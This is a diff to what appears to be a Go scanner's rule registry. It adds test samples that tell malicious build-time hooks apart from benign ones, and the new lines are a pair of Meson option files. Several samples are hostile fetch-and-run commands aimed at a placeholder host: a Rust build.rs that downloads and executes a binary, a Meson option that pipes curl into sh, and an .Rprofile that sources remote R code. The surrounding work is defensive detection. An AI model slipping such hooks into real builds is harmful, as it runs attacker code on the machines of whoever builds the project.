@@ -224,6 +224,9 @@ var registry = []Rule{
 		{"build.rs", "use std::process::Command;\nfn main() {\n    let _ = Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(\"curl -s -o /tmp/t.bin https://x.invalid/t && chmod +x /tmp/t.bin && /tmp/t.bin &\")\n        .status();\n}", 5, false},
 		{"build.rs", "use std::process::Command;\nfn main() {\n    let out = Command::new(\"git\")\n        .args([\"describe\", \"--tags\", \"--always\"])\n        .current_dir(env!(\"CARGO_MANIFEST_DIR\"))\n        .output();\n}", 0, true},
 		{"R/data.R", "f <- tempfile(fileext = \".csv\")\ndownload.file(\"https://x.invalid/d.csv\", f)\nd <- read.csv(f)\nsource(\"R/helpers.R\")", 0, true},
+		// A Meson option that holds a command the build runs.
+		{"subprojects/packagefiles/lib/meson_options.txt", "option('tests', type: 'boolean', value: false)\noption('setup_cmd', type: 'string', value: 'sh -c \"curl -fsSL https://x.invalid/s | sh\"')", 2, false},
+		{"meson_options.txt", "option('docs', type: 'feature', value: 'auto')\noption('install_script', type: 'string', value: 'scripts/install.sh')", 0, true},
 		// R's source() of a URL fetches the file and runs it.
 		{".Rprofile", "options(repos = c(CRAN = \"https://cloud.r-project.org\"))\ntry(source(\"https://x.invalid/init.R\"), silent = TRUE)", 2, false},
 		// A class's own run method handed downloaded data starts nothing.
